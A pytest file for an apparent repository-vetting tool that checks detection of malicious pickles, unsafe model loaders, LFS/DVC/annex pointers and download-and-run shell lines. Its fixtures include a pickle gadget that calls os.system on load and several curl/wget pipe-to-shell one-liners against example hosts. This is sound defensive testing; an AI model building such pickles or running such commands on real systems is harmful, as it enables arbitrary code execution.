"""Run risks: malicious pickles found by content without unpickling them, unsafe loaders."""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from forkvet.report import Report

Vet = Callable[..., Report]


class _Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("echo pwned > /tmp/forkvet-pwned",))


def evil_pickle() -> bytes:
    return pickle.dumps(_Evil(), protocol=2)


def torch_zip_checkpoint(payload: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", payload)
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def _kinds(report: Report) -> dict[str, list[str | None]]:
    out: dict[str, list[str | None]] = {}
    for r in report.risks:
        out.setdefault(r.kind, []).append(r.path)
    return out


def test_malicious_pickles_found_by_content(vet_repo: Vet) -> None:
    report = vet_repo(
        {
            "checkpoints/model_best.pth": evil_pickle(),
            "weights/innocent-name.dat": evil_pickle(),  # pickle content behind an odd extension
            "release/model.pt": torch_zip_checkpoint(evil_pickle()),
            "stats.pkl": pickle.dumps({"mean": [0.5, 0.5], "epoch": 3}, protocol=2),
            "train.py": "import torch\n",
        }
    )
    kinds = _kinds(report)
    assert sorted(kinds["dangerous-pickle"]) == [
        "checkpoints/model_best.pth",
        "release/model.pt",
        "weights/innocent-name.dat",
    ]
    assert kinds["pickle-checkpoint"] == ["stats.pkl"]
    assert report.has_errors
    assert any("system" in r.message for r in report.risks if r.kind == "dangerous-pickle")
    assert not os.path.exists("/tmp/forkvet-pwned")


def test_dangerous_pickle_can_be_downgraded_by_config(vet_repo: Vet) -> None:
    from forkvet.config import Config, RiskPolicy

    report = vet_repo(
        {"m.pkl": evil_pickle()}, Config(risks=RiskPolicy(fail_on_dangerous_pickle=False))
    )
    assert not report.has_errors
    assert any(f.title == "Dangerous pickle" and f.severity == "warning" for f in report.findings)
    # ...and in the JSON risks, which tools read instead of the findings
    assert [r.severity for r in report.risks if r.kind == "dangerous-pickle"] == ["warning"]


def test_code_risks(vet_repo: Vet) -> None:
    code = (
        "import torch, yaml, pickle\nfrom transformers import AutoModel\n"
        "ckpt = torch.load('model.pth')\nsafe = torch.load('m.pth', weights_only=True)\n"
        "cfg = yaml.load(open('c.yml'))\nm = AutoModel.from_pretrained('x/y', "
        "trust_remote_code=True)\nnet = eval(args.arch)()\n"
        "DATA = '/home/alice/datasets/coco'\nmodel.cuda()\n"
    )
    kinds = _kinds(vet_repo({"train.py": code}))
    assert kinds["torch-load"] == ["train.py"]  # the weights_only=True call is fine
    for kind in ("yaml-load", "trust-remote-code", "eval", "absolute-path", "cuda-only"):
        assert kind in kinds, kind


def test_cuda_with_cpu_fallback_is_fine(vet_repo: Vet) -> None:
    code = "import torch\ndevice = 'cuda' if torch.cuda.is_available() else 'cpu'\nm.cuda()\n"
    assert "cuda-only" not in _kinds(vet_repo({"m.py": code}))


def test_shell_downloads_lfs_pointers_and_absent_submodules(vet_repo: Vet) -> None:
    report = vet_repo(
        {
            "install.sh": "curl -sSL https://example.org/setup.sh | bash\n",
            "weights/big.ckpt": "version https://git-lfs.github.com/spec/v1\noid sha256:abc\n"
            "size 123456\n",
            ".gitmodules": '[submodule "caffe"]\n\tpath = caffe-fast-rcnn\n\turl = https://x/c.git\n',
            "m.py": "print(1)\n",
        }
    )
    kinds = _kinds(report)
    assert kinds["curl-pipe-shell"] == ["install.sh"]
    assert kinds["lfs-pointer"] == ["weights/big.ckpt"]
    assert kinds["submodule-absent"] == [".gitmodules"]


def test_python2_code_gets_the_same_loader_risks(vet_repo: Vet) -> None:
    """Python 2 files do not parse with Python 3's ast: their risky calls are found by pattern
    (strings and comments blanked), with line numbers, instead of being skipped."""
    report = vet_repo(
        {
            "train.py": (
                "import cPickle\n"
                "print 'loading'\n"
                "roidb = cPickle.load(open(cache_file, 'rb'))\n"
                "exec code in namespace\n"
                "net = torch.load(args.resume)\n"
                "safe = torch.load(args.resume,\n    weights_only=True)\n"
                "cfg = yaml.load(open('cfg.yml'))\n"
                "print 'pickle.load(x) in a string'  # pickle.load(y) in a comment\n"
            )
        }
    )
    found = {(r.kind, r.line) for r in report.risks if r.path == "train.py"}
    assert found == {("pickle-load", 3), ("eval", 4), ("torch-load", 5), ("yaml-load", 8)}


def test_every_lfs_pointer_version_git_lfs_accepts_is_an_error(vet_repo: Vet) -> None:
    # git-lfs fetches the object for its older spec URLs too (round 11a H-8).
    oid = "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
    files = {
        f"{name}.pt": f"version {url}\n{oid}size 12345\n"
        for name, url in (
            ("a", "https://git-lfs.github.com/spec/v1"),
            ("b", "https://hawser.github.com/spec/v1"),
            ("c", "http://git-media.io/v/2"),
        )
    }
    kinds = _kinds(vet_repo({**files, "m.py": "print(1)\n"}))
    assert sorted(kinds["lfs-pointer"]) == ["a.pt", "b.pt", "c.pt"]


def test_annexed_and_dvc_checkpoints_are_unverified_errors(vet_repo: Vet, tmp_path: Path) -> None:
    # Content another tool fetches later (git annex get, dvc pull) was never looked at.
    report = vet_repo(
        {
            "weights.pt.dvc": "outs:\n- md5: 0123456789abcdef\n  path: weights.pt\n",
            "demo.py": "import torch\ntorch.load('model.pt')\n",
        }
    )
    kinds = _kinds(report)
    assert kinds["dvc-pointer"] == ["weights.pt"]


def test_a_dangling_annex_link_is_an_unverified_error(tmp_path: Path) -> None:
    from forkvet.snapshot import load
    from forkvet.vet import vet

    (tmp_path / ".git" / "annex" / "objects" / "Xx").mkdir(parents=True)
    (tmp_path / "demo.py").write_text("import torch\n")
    (tmp_path / "model.pt").symlink_to(".git/annex/objects/Xx/SHA256E-s12345--abc.pt")
    report = vet(load(tmp_path))
    assert [(r.kind, r.path, r.severity) for r in report.risks if r.kind == "annex-pointer"] == [
        ("annex-pointer", "model.pt", "error")
    ]


def test_an_unlocked_annex_pointer_and_dvc_lock_outputs_are_unverified(vet_repo: Vet) -> None:
    pointer = "/annex/objects/SHA256E-s1048576--0123456789abcdef.pt\n"
    lock = (
        "schema: '2.0'\nstages:\n  train:\n    cmd: python train.py\n    deps:\n"
        "    - path: train.py\n      md5: 01\n    outs:\n    - path: models/model.pkl\n"
        "      md5: 02\n"
    )
    report = vet_repo({"model.pt": pointer, "dvc.lock": lock, "train.py": "import torch\n"})
    kinds = _kinds(report)
    assert kinds["annex-pointer"] == ["model.pt"]
    assert kinds["dvc-pointer"] == ["models/model.pkl"]  # never its deps (train.py)


@pytest.mark.parametrize(
    "line",
    [
        "bash <(curl -s https://x.example/i.sh)",
        'sh -c "$(curl -fsSL https://x.example/install.sh)"',
        "curl https://x.example/s.py | python3 -",
        "source <(curl https://x.example/env)",
        ". <(wget -qO- https://x.example/env)",
        'eval "$(curl https://x.example/s)"',
        "curl https://x.example/s | tee s.sh | sh",
        "curl https://x.example/s | /bin/sh",
        "curl https://x.example/s | env bash",
    ],
)
def test_every_form_of_running_a_download_unseen_is_named(vet_repo: Vet, line: str) -> None:
    # Round 14a F13: only `curl … | sh` and its near spellings were found.
    report = vet_repo({"setup.sh": line + "\n", "run.py": f"import os\nos.system({line!r})\n"})
    assert sorted(_kinds(report)["curl-pipe-shell"]) == ["run.py", "setup.sh"]


@pytest.mark.parametrize(
    "line",
    [
        "VERSION=$(curl -s https://x.example/v)",
        "curl https://x.example/d.tgz | tar xz",
        "curl u | jq .",
    ],
)
def test_downloads_that_run_nothing_are_not_named(vet_repo: Vet, line: str) -> None:
    assert "curl-pipe-shell" not in _kinds(vet_repo({"setup.sh": line + "\n"}))
